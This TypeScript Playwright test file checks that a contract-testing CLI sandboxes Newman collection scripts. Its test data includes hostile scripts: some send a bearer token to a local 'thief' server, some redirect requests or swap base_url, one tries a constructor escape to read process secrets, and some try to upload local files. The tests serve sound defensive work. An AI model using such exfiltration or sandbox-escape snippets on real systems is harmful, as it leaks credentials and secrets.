import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { expect, test as base } from '@playwright/test';
import { runCli } from '../support/run-cli.ts';
import { startContract } from '../support/run-contract.ts';
import { startStub, type Stub } from '../support/stub-okra.ts';
import { aCollection, anEnvironment, writeSuite } from '../support/tiny-suite.ts';

interface Scripts {
  readonly prerequest?: string;
  readonly test?: string;
}

interface Fixtures {
  /** A server that no request may reach, and what it got. */
  readonly thief: { readonly url: string; readonly place: string; readonly got: string[] };
  readonly stub: Stub & { readonly bodies: string[] };
  /** Runs `contract newman` on three requests; the second one has these scripts and this body. */
  readonly newman: (
    scripts: Scripts,
    options?: readonly string[],
    body?: object,
  ) => Promise<{ code: number | null; output: string }>;
}

/** What the three requests answer with. */
const schemas = Object.fromEntries(
  ['first', 'second', 'third'].map((name) => [
    `schemas/banks/${name}.schema.json`,
    {
      type: 'object',
      required: ['status', 'data'],
      properties: { status: { const: 'success' }, data: { type: 'object' } },
    },
  ]),
);
/** A file that holds the name of this project. */
const ownFile = join(process.cwd(), 'package.json');
const otherKey = 'another-tenants-key.with-claims.and-signature';

const test = base.extend<Fixtures>({
  thief: async ({}, use) => {
    const got: string[] = [];
    const server = http.createServer((request, response) => {
      got.push(String(request.url));
      response.end('{}');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const place = `127.0.0.1:${(server.address() as AddressInfo).port}`;
    await use({ url: `http://${place}`, place, got });
    server.closeAllConnections();
    server.close();
  },
  stub: async ({}, use) => {
    const bodies: string[] = [];
    const stub = await startStub({ change: (answer, { body }) => (bodies.push(String(body)), answer) });
    await use(Object.assign(stub, { bodies }));
    await stub.close();
  },
  newman: async ({ stub }, use, testInfo) => {
    await use(async (scripts, options = [], body) => {
      const files = writeSuite(testInfo.outputPath(), {
        ...schemas,
        'collection.json': collectionWith(scripts, body),
        'environment.json': anEnvironment({
          base_url: stub.baseUrl,
          control_url: stub.controlUrl,
          other_tenant_token: otherKey,
        }),
      });
      const args = ['newman', '--collection', files.collection, '--environment', files.environment];
      const { code, stdout, stderr } = await runCli([...args, '--script-timeout', '1', ...options], {
        SECRET_OF_THE_MACHINE: 'not-for-scripts',
        CONTRACT_SCHEMAS: files.schemas,
      });
      return { code, output: stdout + stderr };
    });
  },
});

test('scripts that only check pass, and the run ends with 0', async ({ newman }) => {
  const { code, output } = await newman({ test: `pm.test('status', () => pm.response.to.have.status(200));` });
  expect(output).toContain('The contract holds. 3 exchanges');
  expect(code).toBe(0);
});

for (const [what, prerequest] of [
  ['a script that loops', 'while (true) {}'],
  ['a timer that loops', 'setTimeout(() => { while (true) {} }, 1);'],
]) {
  test(`${what} without end is stopped: what was not sent is unchecked, and the run ends`, async ({ newman }) => {
    const { code, output } = await newman({ prerequest: String(prerequest) });
    expect(output).toMatch(/unchecked .*(a script of it does not end|script execution timeout)/);
    expect(code).toBe(2);
    expect(output).toContain('✓ 200  Banks / First');
  });
}

test('scripts that lead back to the same request again and again are stopped', async ({ newman, stub }) => {
  const { code, output } = await newman({ test: `pm.execution.setNextRequest('Second');` });
  expect(output).toContain('Newman was stopped at this request: its scripts lead back to it again and again');
  expect(output).toContain('Newman was stopped before this request, at Banks / Second: ');
  expect(code).toBe(2);
  expect(stub.calls).toBeLessThan(20);
});

const steals: Readonly<Record<string, (url: string) => Scripts>> = {
  'a request of a script': (url) => ({
    prerequest: `pm.sendRequest('${url}/?k=' + pm.environment.get('bearerToken'));`,
  }),
  'a request of a test': (url) => ({ test: `pm.sendRequest('${url}/?k=' + pm.environment.get('bearerToken'));` }),
  'a request that a script turns elsewhere': (url) => ({ prerequest: `pm.request.url = '${url}/moved';` }),
  'a base_url that a script replaces': (url) => ({ prerequest: `pm.environment.set('base_url', '${url}');` }),
};

for (const [what, scripts] of Object.entries(steals)) {
  test(`${what} reaches no other host: it is refused, and unchecked`, async ({ newman, thief }) => {
    const { code, output } = await newman(scripts(thief.url));
    expect(output).toContain(`its scripts wanted to send to ${thief.place}, which is not base_url: that was refused`);
    expect(code).toBe(2);
    expect(thief.got).toEqual([]);
  });
}

test('scripts see neither files nor our environment, and of the keys only the one that they send', async ({
  newman,
}) => {
  const look = `
    const seen = JSON.stringify([pm.environment.toObject(), pm.variables.toObject(), pm.globals.toObject()]);
    let files = 'none';
    try { files = typeof require('fs').readFileSync; } catch (error) { files = 'refused'; }
    let machine = 'none';
    try { machine = pm.constructor.constructor('return process')().env.SECRET_OF_THE_MACHINE; } catch (error) { machine = 'refused'; }
    pm.test('SEEN other=' + seen.includes('${otherKey}') + ' control=' + seen.includes('/control') +
      ' own=' + seen.includes('bearerToken') + ' files=' + files + ' machine=' + machine, () => pm.expect(1).to.equal(2));`;
  const { code, output } = await newman({ test: look });
  expect(output).toMatch(
    /SEEN other=false control=false own=true files=(undefined|refused) machine=(undefined|refused|none):/,
  );
  expect(output).not.toContain('not-for-scripts');
  expect(code).toBe(1);
});

for (const body of [
  { mode: 'file', file: { src: ownFile } },
  { mode: 'formdata', formdata: [{ key: 'file', type: 'file', src: ownFile }] },
]) {
  test(`a collection whose body is a ${body.mode} is refused as a whole`, async ({ newman, stub }) => {
    const { code, output } = await newman({}, [], body);
    expect(output).toContain('A request has a body that the suite cannot send');
    expect(stub.calls).toBe(0);
    expect(code).toBe(2);
  });

  test(`a script that makes a ${body.mode} of the body sends no file`, async ({ newman, stub }) => {
    const prerequest = `pm.request.method = 'POST'; pm.request.body = ${JSON.stringify(body)};`;
    const { output } = await newman({ prerequest });
    expect(output).toContain('Banks / Second');
    expect(stub.calls).toBeGreaterThan(1);
    expect(stub.bodies.join('')).not.toContain('okra-contract-suite');
  });
}

test('--no-scripts sends the same requests and runs no script, neither in newman nor in a whole run', async ({
  newman,
  stub,
}) => {
  const scripts = { prerequest: 'while (true) {}', test: `pm.test('no', () => pm.expect(1).to.equal(2));` };
  const { code, output } = await newman(scripts, ['--no-scripts']);
  expect(output).toContain('3 × scripts are switched off by --no-scripts');
  expect(output).toContain('The contract holds. 3 exchanges');
  expect(code).toBe(0);

  const folder = test.info().outputPath();
  const { options } = writeSuite(folder, {
    ...schemas,
    'collection.json': collectionWith(scripts),
    'environment.json': anEnvironment({ base_url: stub.baseUrl, control_url: stub.controlUrl }),
  });
  const run = await startContract(folder, [...options, '--area', 'request', '--no-scripts']).done;
  const skipped = run.report?.verdicts.filter(({ rule }) => rule === 'status/postman-checks');
  expect(skipped?.map(({ outcome, received }) => [outcome, received])).toEqual(
    Array(3).fill(['skipped', 'scripts are switched off by --no-scripts']),
  );
});

/** Three requests for the list of banks, the second one with scripts. */
function collectionWith({ prerequest, test: check }: Scripts, body?: object): object {
  const request = {
    method: 'GET',
    url: '{{base_url}}/banks/list',
    header: [{ key: 'Content-Type', value: 'application/json' }],
    description: 'Banks.\n\n- effect: read\n- list: data.banks',
    ...(body === undefined ? {} : { body }),
  };
  const event = Object.entries({ prerequest, test: check }).flatMap(([listen, exec]) =>
    exec === undefined ? [] : [{ listen, script: { type: 'text/javascript', exec: exec.split('\n') } }],
  );
  const response = [{ name: '200 Success', code: 200 }];
  const item = ['First', 'Second', 'Third'].map((name) => ({
    ...{ name, request, response },
    ...(name === 'Second' ? { event } : {}),
  }));
  return aCollection([{ name: 'Banks', item }]);
}
